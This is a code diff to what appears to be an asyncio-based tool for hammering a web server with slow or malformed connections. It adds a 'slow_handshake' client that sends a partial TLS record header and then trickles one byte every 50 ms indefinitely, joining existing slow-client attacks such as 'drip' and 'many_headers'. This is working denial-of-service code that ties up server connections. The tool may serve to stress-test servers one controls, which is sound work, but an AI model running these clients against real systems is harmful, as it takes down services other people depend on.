@@ -47,7 +47,8 @@ _numbers = itertools.count()
 
 async def connect(attack: Attack) -> Streams:
     source = attack.sources[next(_numbers) % len(attack.sources)]
-    context: ssl.SSLContext | None = any_certificate() if attack.tls else None
+    tls = attack.tls and attack.kind != slow_handshake.__name__
+    context: ssl.SSLContext | None = any_certificate() if tls else None
     return await asyncio.open_connection(
         attack.host,
         attack.port,
@@ -98,6 +99,15 @@ async def drip(_: Attack, streams: Streams) -> None:
         await asyncio.sleep(0.05)
 
 
+async def slow_handshake(_: Attack, streams: Streams) -> None:
+    """A TLS record of 4 KiB, a byte at a time."""
+    streams[1].write(b"\x16\x03\x01\x10\x00\x01\x00\x0f\xfc")
+    while True:
+        streams[1].write(b"x")
+        await streams[1].drain()
+        await asyncio.sleep(0.05)
+
+
 async def ask(attack: Attack, streams: Streams) -> None:
     streams[1].write(request(attack, "Connection: close\r\n"))
     await closed(streams)
@@ -118,7 +128,10 @@ async def reset(attack: Attack, streams: Streams) -> None:
 
 CLIENTS: dict[str, Callable[[Attack, Streams], Awaitable[None]]] = {
     client.__name__: client
-    for client in (*(big_heads, many_headers, silent, drip, ask, pipeline, reset),)
+    for client in (
+        *(big_heads, many_headers, silent, drip, slow_handshake),
+        *(ask, pipeline, reset),
+    )
 }
 
 
